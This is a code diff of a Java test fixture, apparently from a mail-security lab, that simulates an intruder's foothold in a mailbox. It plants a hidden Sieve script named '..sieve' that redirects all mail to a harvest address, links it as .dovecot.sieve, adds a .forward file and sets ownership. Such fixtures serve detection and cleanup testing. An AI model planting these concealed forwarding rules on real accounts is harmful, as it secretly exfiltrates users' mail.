@@ -4,7 +4,7 @@ package argine;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
-import java.util.stream.Stream;
+import java.util.List;
 
 /**
  * What a thief leaves in a mailbox of the lab: a rule named {@code .} in a script named {@code .},
@@ -19,16 +19,15 @@ final class PlantedFoothold {
         this.home = home;
     }
 
-    /** All of it belongs to the user of the mailboxes. */
+    /** All of it belongs to the user of the mailboxes; what Dovecot has there comes and goes. */
     void plant(Object owner) throws IOException {
         Path folder = Files.createDirectories(home.resolve("sieve"));
-        Files.writeString(folder.resolve("..sieve"), "# rule:[.]\nredirect \"" + HARVEST + "\";\n");
+        Path script = folder.resolve("..sieve");
+        Files.writeString(script, "# rule:[.]\nredirect \"" + HARVEST + "\";\n");
         Files.createSymbolicLink(home.resolve(".dovecot.sieve"), Path.of("sieve/..sieve"));
-        Files.writeString(home.resolve(".forward"), HARVEST + "\n");
-        try (Stream<Path> all = Files.walk(home)) {
-            for (Path one : all.filter(file -> !Files.isSymbolicLink(file)).toList()) {
-                Files.setAttribute(one, "unix:uid", owner);
-            }
+        Path forward = Files.writeString(home.resolve(".forward"), HARVEST + "\n");
+        for (Path one : List.of(folder, script, forward)) {
+            Files.setAttribute(one, "unix:uid", owner);
         }
     }
 
